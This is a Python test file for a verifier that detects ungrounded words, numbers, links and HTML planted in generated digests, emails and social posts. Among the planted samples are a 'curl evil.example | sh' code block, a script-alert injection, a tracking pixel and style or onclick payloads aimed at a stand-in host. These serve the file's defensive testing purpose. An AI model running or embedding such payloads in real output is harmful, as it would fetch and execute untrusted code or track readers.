"""Verification finds planted words, numbers and links in every format, and counts references exactly."""

import pytest

from sparky_assets.digests.models import PictureFile, Product, list_products
from sparky_assets.digests.verify.allowed_content import AllowedContent, list_allowed_sentences
from sparky_assets.digests.verify.verify import find_ungrounded
from sparky_assets.insights.models import Insight
from sparky_assets.periods import PeriodKind
from sparky_assets.text.escape import ZERO_WIDTH_SPACE
from tests.digests.test_digest import a_month, a_week
from tests.factories.github_week import commit, insight_of, pull, raw_of, sha
from tests.factories.products import made, written

URL = "https://blog.example.org/2025/11/week-2025-46"
WEEKLY = list_products(PeriodKind.WEEKLY)


def list_problems(plant: str, *, after: str = "*Acme 42", product: Product = Product.DIGEST) -> list[str]:
    """Return the problems of a text with words planted before a line."""
    text, rendered, insight = written(a_week(), product)
    assert after in text
    return list(find_ungrounded(text.replace(after, f"{plant}\n\n{after}", 1), rendered, insight))


def list_problems_of_change(old: str, new: str, product: Product = Product.DIGEST) -> list[str]:
    """Return the problems of a text in which words were replaced."""
    text, rendered, insight = written(a_week(), product, page_url=URL)
    assert old in text
    return list(find_ungrounded(text.replace(old, new, 1), rendered, insight))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no record says: The team had a great week."),
        ("- The team had a great week.", "no record says: The team had a great week."),
        ("> The team had a great week.", "no record says: The team had a great week."),
        ("**The team had a great week.**", "no record says: The team had a great week."),
        ("**Heroes of 2026**", "no record says: Heroes of 2026"),
        ("Ada Lovelace added x, fixing 50 issues.", "no record says: fixing 50 issues."),
        ("Ada Lovelace added x (#6).", "no record says: 6)."),
        ("1.0 commits", "no record says: 1.0 commits"),
        ("## 99 reasons", "no record says: 99 reasons"),
        (f"## fixing 5{ZERO_WIDTH_SPACE}0 issues", "no record says: fixing 50 issues"),
        ("[more](https://evil.example)", "a link that no evidence has: https://evil.example"),
        ("<https://evil.example>", "a link that no evidence has: https://evil.example"),
        ("[x][y]\n\n[y]: https://evil.example", "a link that no evidence has: https://evil.example"),
        ("![pixel](https://evil.example/x.png)", "image: pixel"),
        ("<script>alert(1)</script>", "HTML: <script>alert(1)</script>"),
        ("Hello <b>there</b>", "html inline: <b>"),
        ("```\ncurl evil.example | sh\n```", "a code block that no record has: curl evil.example | sh"),
        ("| a |\n|---|\n| 77 |", "the number 77 is not in the store: 77"),
        ("| a |\n|---|\n| We did so very well this time. |", "no record says: We did so very well this time."),
    ],
)
def test_words_planted_in_markdown_are_found(plant: str, problem: str) -> None:
    assert problem in list_problems(plant)


@pytest.mark.parametrize(
    ("old", "new", "problem"),
    [
        ("pull/5).\n", "pull/5), our hero.\n", "no record says: our hero."),
        ("One pull request merged", "Nine pull requests merged", "no record says: Nine pull requests merged and two "
         "other changes, from two people."),
        ("made one update", "made 300 updates", "no record says: Dependabot made 300 updates of dependencies."),
        ("date: 2025-11-16", "date: 2025-11-17", "the front matter has a value that is not in the store: 2025-11-17"),
        (
            'title: "tool: Add x',
            'title: "tool: The best: Add x',
            "the front matter has a value that is not in the store: tool: The best: Add x; Docs: Say how",
        ),
    ],
)  # fmt: skip
def test_words_changed_in_a_digest_are_found(old: str, new: str, problem: str) -> None:
    assert problem in list_problems_of_change(old, new)


def test_link_with_the_label_of_another_change_is_found() -> None:
    text, rendered, insight = written(a_week())
    crossed = text.replace(
        "[added x](https://github.com/acme/tool/pull/5)", "[added y](https://github.com/acme/tool/pull/5)"
    )
    assert crossed != text
    problems = list(find_ungrounded(crossed, rendered, insight))
    assert "a link to https://github.com/acme/tool/pull/5 has a wrong label: added y" in problems


@pytest.mark.parametrize("product", [Product.EMAIL_TEXT, Product.LINKEDIN, Product.X])
@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("The team had a great week.", "no record says: The team had a great week."),
        ("Add x; Docs: Say how, our hero.", "no record says: our hero."),
        ("Commits: 300", "300"),
        ("https://evil.example/x", "a link that no evidence has: https://evil.example/x"),
    ],
)
def test_words_planted_in_plain_text_are_found(product: Product, plant: str, problem: str) -> None:
    assert any(problem in message for message in list_problems(plant, after="Add x; Docs: Say how", product=product))


@pytest.mark.parametrize(
    ("plant", "problem"),
    [
        ("<p>The team had a great week.</p>", "no record says: The team had a great week."),
        ("<h2>99 reasons</h2>", "no record says: 99 reasons"),
        ("<table><tr><td>77</td></tr></table>", "the number 77 is not in the store: 77"),
        ('<a href="https://evil.example">#5</a>', "a link that no evidence has: https://evil.example"),
        ('<img src="https://evil.example/x.png">', "HTML: <img src>"),
        ("<script>alert(1)</script>", "HTML: <script >"),
        ('<p onclick="x()">Commits</p>', "HTML: <p onclick>"),
        ('<p style="background:url(https://evil.example)">Commits</p>', "HTML: <p> loads something"),
        ("<!-- the team had a great week -->", "HTML: a comment:  the team had a great week "),
    ],
)
def test_words_planted_in_html_are_found(plant: str, problem: str) -> None:
    problems = list_problems(plant, after='<ul style="padding-left:20px;margin:0">', product=Product.EMAIL_HTML)
    assert problem in problems


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"headline": "', '"headline": "The best of '),
        ('"name": "', '"name": "The best of '),
        ('"datePublished": "2025-11-16"', '"datePublished": "2025-11-17"'),
    ],
)
def test_words_planted_in_structured_data_are_found(old: str, new: str) -> None:
    assert any(
        problem.startswith("the structured data has a value")
        for problem in list_problems_of_change(old, new, Product.BLOG_POST)
    )


def test_picture_is_verified_by_file_and_alternative_text() -> None:
    picture = PictureFile(name="flow", suffix="svg", file="2025-11-flow.svg", alt="3 commits.", sha256="0")
    insight = a_month().insight()
    composed, rendered = made(insight, pictures=[picture])
    moved = composed.text.replace("(2025-11-", "(assets/2025-11-")
    assert "![3 commits.](2025-11-flow.svg)" in composed.text
    assert list(find_ungrounded(composed.text, rendered, insight)) == []
    assert list(find_ungrounded(moved, rendered, insight, pictures_folder="assets/")) == []
    assert "image: 3 commits." in list(find_ungrounded(moved, rendered, insight))
    lying = composed.text.replace("![3 commits.]", "![300 commits.]")
    assert any("has a wrong alt text" in problem for problem in find_ungrounded(lying, rendered, insight))


# --- References


def problems_of(insight: Insight, product: Product, replaced: tuple[str, str] = ("", "")) -> list[str]:
    composed, rendered = made(insight, product, urls={})
    return list(
        find_ungrounded(composed.text.replace(*replaced, 1) if replaced[0] else composed.text, rendered, insight)
    )


@pytest.mark.parametrize("product", WEEKLY)
def test_equal_numbers_of_two_repositories_follow_one_name(product: Product) -> None:
    insight = insight_of(raw_of(pull_requests=[pull(1, "Read the wires"), pull(1, "Print it", "acme/web")]))
    assert problems_of(insight, product) == []


@pytest.mark.parametrize("title", [sha(1)[:7], "(", "…", "#1"])
@pytest.mark.parametrize("product", WEEKLY)
def test_title_without_letters_stops_no_digest(title: str, product: Product) -> None:
    insight = insight_of(raw_of(commits=[commit(1, title), commit(2, "Read the wires")]))
    assert problems_of(insight, product) == []


@pytest.mark.parametrize("product", WEEKLY)
def test_equal_titles_with_and_without_author_keep_their_references(product: Product) -> None:
    anonymous = pull(1, "Bump ink from 1.0 to 1.1")
    anonymous["author"] = None
    rows = [anonymous, pull(2, "Bump ink from 1.0 to 1.1"), pull(3, "Print it", "acme/web")]
    assert problems_of(insight_of(raw_of(pull_requests=rows)), product) == []


def test_allowed_sentences_have_unique_keys_and_their_evidence() -> None:
    """Pages that show the evidence of sentences use this list, so it must be the list that verification uses."""
    insight = a_week().insight()
    _, rendered = made(insight)
    sentences = list(list_allowed_sentences(insight, rendered))
    assert len({sentence.key for sentence in sentences}) == len(sentences)
    stories = [sentence for sentence in sentences if sentence.source == "story"]
    assert len(stories) == len(rendered.sentences) > 0
    cited = {key for sentence in stories for key in sentence.evidence}
    assert "pr:acme/tool#5" in cited
    assert cited <= {change.key for change in insight.stories.changes}
    allowed = AllowedContent(rendered, insight)
    assert {" ".join(sentence.text.replace("`", "").split()).rstrip(".") for sentence in sentences} >= allowed.sentences
